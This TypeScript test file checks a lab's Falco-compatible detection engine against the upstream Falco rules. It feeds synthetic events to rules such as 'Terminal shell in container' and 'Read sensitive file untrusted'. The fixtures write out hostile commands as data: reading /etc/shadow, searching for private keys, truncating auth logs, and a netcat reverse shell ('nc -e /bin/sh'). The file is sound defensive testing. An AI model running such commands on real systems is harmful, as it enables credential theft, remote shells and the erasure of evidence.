/**
 * The upstream Falco rules files are the compatibility corpus: every file
 * must load, alone and after falco_rules.yaml (Falco's -r order), and real
 * upstream rules must fire on the events they describe and stay quiet on
 * near misses.
 */
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { AuditEngine, compileRuleSet } from './engine.ts';
import { falcoKnowsSyscallField } from './falco-fields.ts';
import { LAB_FIELDS, type AuditEvent } from './fields.ts';
import { K8S_AUDIT_FIELDS } from './k8saudit.ts';
import { parseRulesFile, type RulesSource } from './loader.ts';
import { parseCondition, type Expr } from './condition.ts';

const CORPUS = process.env.INTEGRITY_LAB_FALCO_CORPUS ?? fileURLToPath(new URL('../../../shared/corpus/falco/', import.meta.url));
const present = existsSync(`${CORPUS}/falco_rules.yaml`);
const skip = present ? false : `the Falco corpus is not at ${CORPUS} (set INTEGRITY_LAB_FALCO_CORPUS)`;

function source(file: string): RulesSource {
  return { name: file, content: readFileSync(`${CORPUS}/${file}`, 'utf8') };
}

const files = present ? readdirSync(CORPUS).filter((f) => f.endsWith('.yaml')).sort() : [];
const clock = () => new Date('2024-05-06T07:08:09.010Z');

function upstreamEngine(): AuditEngine {
  const engine = new AuditEngine({ hostname: 'node-1', clock });
  engine.load([source('falco_rules.yaml')]);
  return engine;
}

function fired(engine: AuditEngine, event: AuditEvent): string[] {
  return engine.evaluate(event).map((a) => a.rule);
}

/** A shell started by `kubectl exec -it` in a container: runc's child process is the parent (see container_entrypoint). */
const execShell: AuditEvent = {
  source: 'syscall',
  'evt.type': 'execve',
  'evt.time': '2024-05-06T07:08:09.5Z',
  'container.id': '3ad7b26ded6d',
  'container.name': 'app',
  'proc.name': 'bash',
  'proc.exe': '/bin/bash',
  'proc.exepath': '/usr/bin/bash',
  'proc.cmdline': 'bash',
  'proc.args': '',
  'proc.pname': 'runc:[1:CHILD]',
  'proc.tty': 34816,
  'user.name': 'root',
  'user.uid': 0,
  'user.loginuid': -1,
  'evt.arg.flags': 'EXE_WRITABLE',
};

/** cat reading /etc/shadow on the host. */
const catShadow: AuditEvent = {
  source: 'syscall',
  'evt.type': 'openat',
  'evt.is_open_read': true,
  'evt.is_open_write': false,
  'fd.typechar': 'f',
  'fd.num': 3,
  'fd.name': '/etc/shadow',
  'fd.directory': '/etc',
  'fd.filename': 'shadow',
  'proc.name': 'cat',
  'proc.exepath': '/usr/bin/cat',
  'proc.cmdline': 'cat /etc/shadow',
  'proc.args': '/etc/shadow',
  'proc.pname': 'bash',
  'proc.aname': ['cat', 'bash', 'sshd', 'systemd'],
  'proc.tty': 34816,
  'user.name': 'alice',
  'user.uid': 1000,
  'user.loginuid': 1000,
  'container.id': 'host',
};

describe('the upstream Falco rules corpus', { skip }, () => {
  describe('when each file is loaded alone', () => {
    for (const file of files) {
      it(`loads ${file}`, (t) => {
        const set = compileRuleSet([source(file)]);
        const enabled = set.rules.filter((r) => r.enabled).length;
        t.diagnostic(`${file}: ${set.rules.length} rules (${enabled} enabled), ${set.unknownFields.length} fields not produced by the lab`);
        assert.equal(set.files.length, 1);
        assert.ok(set.files[0]!.macros + set.files[0]!.lists > 0, 'the file defines macros or lists');
      });
    }
  });

  describe('when falco_rules.yaml is loaded first, as Falco loads its default rules', () => {
    for (const file of files.filter((f) => f !== 'falco_rules.yaml')) {
      it(`loads falco_rules.yaml then ${file}`, () => {
        const alone = compileRuleSet([source(file)]);
        const base = compileRuleSet([source('falco_rules.yaml')]);
        const both = compileRuleSet([source('falco_rules.yaml'), source(file)]);
        // Rule names in these files do not collide, so the combined set is the sum.
        assert.equal(both.rules.length, base.rules.length + alone.rules.length);
      });
    }

    it('loads every file together and reports each unknown field once', (t) => {
      const ordered = ['falco_rules.yaml', ...files.filter((f) => f !== 'falco_rules.yaml')];
      const set = compileRuleSet(ordered.map(source));
      const unknown = set.unknownFields;
      assert.equal(new Set(unknown).size, unknown.length, 'no field reported twice');
      assert.deepEqual([...unknown].sort(), unknown, 'sorted');
      for (const f of ['fd.sip', 'proc.is_exe_upper_layer', 'thread.cap_effective']) assert.ok(unknown.includes(f), f);
      for (const f of ['proc.name', 'fd.name', 'proc.aname', 'container.id']) assert.ok(!unknown.includes(f), f);
      assert.equal(set.warnings.filter((w) => w.startsWith('field ')).length, unknown.length);
      // The note lists only real Falco fields (a misspelt one is an error, not a note).
      for (const f of unknown) assert.ok(falcoKnowsSyscallField(f) || Object.hasOwn(K8S_AUDIT_FIELDS, f), `${f} is not a Falco field`);
      t.diagnostic(`${set.rules.length} rules from ${ordered.length} files use ${unknown.length} fields the lab does not produce: ${unknown.join(' ')}`);
    });
  });

  describe('when the lab\'s fields are checked against Falco\'s catalogue', () => {
    it('produces only fields Falco has, under the same names (syscall: libsinsp and the container plugin)', () => {
      const notFalco = Object.keys(LAB_FIELDS).filter((f) => !falcoKnowsSyscallField(f) && !Object.hasOwn(K8S_AUDIT_FIELDS, f));
      assert.deepEqual(notFalco, []);
      assert.ok(falcoKnowsSyscallField('evt.arg.flags') && falcoKnowsSyscallField('evt.rawarg.nstype'));
      assert.ok(!falcoKnowsSyscallField('proc.nmae') && !falcoKnowsSyscallField('ka.verb'));
    });
  });

  describe('when list names are expanded in the parsed condition instead of pasted as text', () => {
    it('finds no list name used as a plain value, where Falco and the lab would differ', () => {
      const misuses: string[] = [];
      let checks = 0;
      for (const file of files) {
        const items = parseRulesFile(source(file)).items;
        const lists = new Set(items.flatMap((i) => (i.kind === 'list' ? [i.name] : [])));
        const walk = (e: Expr, where: string): void => {
          if (e.kind === 'and' || e.kind === 'or') e.children.forEach((c) => walk(c, where));
          else if (e.kind === 'not') walk(e.child, where);
          else if (e.kind === 'check') {
            checks++;
            if (e.right?.kind === 'value' && !e.right.quoted && lists.has(e.right.value)) misuses.push(`${file}: ${where}: ${e.right.value}`);
          }
        };
        for (const i of items) {
          if (i.kind === 'macro') walk(parseCondition(i.condition.value), i.name);
          if (i.kind === 'rule' && i.mode === 'define') walk(parseCondition(i.fields.condition.value), i.name);
        }
      }
      assert.deepEqual(misuses, []);
      assert.ok(checks > 1000, `walked ${checks} checks`);
    });
  });

  describe('when events reach the upstream default rules', () => {
    const engine = present ? upstreamEngine() : new AuditEngine();

    it('fires "Terminal shell in container" for an interactive shell under runc', () => {
      assert.deepEqual(fired(engine, execShell), ['Terminal shell in container']);
    });

    it('stays quiet when the shell has no terminal, runs on the host, or has another parent', () => {
      assert.deepEqual(fired(engine, { ...execShell, 'proc.tty': 0 }), []);
      assert.deepEqual(fired(engine, { ...execShell, 'container.id': 'host' }), []);
      assert.deepEqual(fired(engine, { ...execShell, 'proc.pname': 'python3' }), []);
      assert.deepEqual(fired(engine, { ...execShell, 'evt.type': 'openat' }), []);
    });

    it('fires "Read sensitive file untrusted" for cat reading /etc/shadow and fills its output', () => {
      const alerts = engine.evaluate(catShadow);
      assert.deepEqual(alerts.map((a) => a.rule), ['Read sensitive file untrusted']);
      const alert = alerts[0]!;
      assert.equal(
        alert.output,
        '07:08:09.010000000: Warning Sensitive file opened for reading by non-trusted program | file=/etc/shadow gparent=sshd ggparent=systemd gggparent=<NA> evt_type=openat user=alice user_uid=1000 user_loginuid=1000 process=cat proc_exepath=/usr/bin/cat parent=bash command=cat /etc/shadow terminal=34816',
      );
      assert.equal(alert.output_fields['proc.aname[2]'], 'sshd');
      assert.equal(alert.output_fields['proc.aname[4]'], null);
      assert.deepEqual(alert.tags, ['T1555', 'container', 'filesystem', 'host', 'maturity_stable', 'mitre_credential_access']);
    });

    it('stays quiet for trusted readers, writes, failed opens and other files', () => {
      assert.deepEqual(fired(engine, { ...catShadow, 'proc.name': 'sshd' }), [], 'sshd is in read_sensitive_file_binaries');
      assert.deepEqual(fired(engine, { ...catShadow, 'proc.name': 'passwd' }), [], 'passwd is in user_mgmt_binaries (nested lists)');
      assert.deepEqual(fired(engine, { ...catShadow, 'proc.name': 'cat', 'proc.aname': ['cat', 'sh', 'qualys-cloud-ag'] }), [], 'run_by_qualys via proc.aname[2]');
      assert.deepEqual(fired(engine, { ...catShadow, 'evt.is_open_read': false }), []);
      assert.deepEqual(fired(engine, { ...catShadow, 'fd.num': -1 }), []);
      assert.deepEqual(fired(engine, { ...catShadow, 'fd.name': '/etc/hostname', 'fd.directory': '/etc' }), []);
      assert.deepEqual(fired(engine, { ...catShadow, 'fd.name': '/etc/pam.d/sshd', 'fd.directory': '/etc/pam.d' }), ['Read sensitive file untrusted'], 'fd.directory in (/etc/pam.d)');
    });

    it('fires "Run shell untrusted" for a shell below nginx, but not below a shell', () => {
      const shell = { ...execShell, 'proc.tty': 0, 'proc.pname': 'nginx', 'proc.aname': ['sh', 'nginx', 'containerd-shim'], 'proc.cmdline': 'sh -c id' };
      assert.deepEqual(fired(engine, shell), ['Run shell untrusted']);
      assert.deepEqual(fired(engine, { ...shell, 'proc.pname': 'bash', 'proc.aname': ['sh', 'bash', 'nginx'] }), []);
      assert.deepEqual(fired(engine, { ...shell, 'proc.cmdline': 'sh -c uname -s 2>&1' }), [], 'known_shell_spawn_cmdlines');
    });

    it('fires "Clear Log Activities" on O_TRUNC of a log file, and not on appends', () => {
      const trunc = { ...catShadow, 'evt.is_open_read': false, 'evt.is_open_write': true, 'fd.name': '/var/log/auth.log', 'fd.directory': '/var/log', 'fd.filename': 'auth.log', 'evt.arg.flags': 'O_WRONLY|O_TRUNC' };
      assert.deepEqual(fired(engine, trunc), ['Clear Log Activities']);
      assert.deepEqual(fired(engine, { ...trunc, 'evt.arg.flags': 'O_WRONLY|O_APPEND' }), []);
    });

    it('fires "Search Private Keys or Passwords" on case-insensitive argument matches', () => {
      const grep = { ...execShell, 'proc.name': 'grep', 'proc.args': '-r "begin rsa private" /home', 'proc.tty': 0, 'proc.pname': 'bash' };
      assert.deepEqual(fired(engine, grep), ['Search Private Keys or Passwords']);
      assert.deepEqual(fired(engine, { ...grep, 'proc.args': '-r TODO /src' }), []);
    });

    it('fires "Netcat Remote Code Execution in Container" for nc -e', () => {
      const nc = { ...execShell, 'proc.name': 'nc', 'proc.cmdline': 'nc -e /bin/sh 10.0.0.1 4444', 'proc.tty': 0, 'proc.pname': 'bash' };
      assert.deepEqual(fired(engine, nc), ['Netcat Remote Code Execution in Container']);
      assert.deepEqual(fired(engine, { ...nc, 'proc.cmdline': 'nc -z 10.0.0.1 4444' }), []);
    });
  });
});
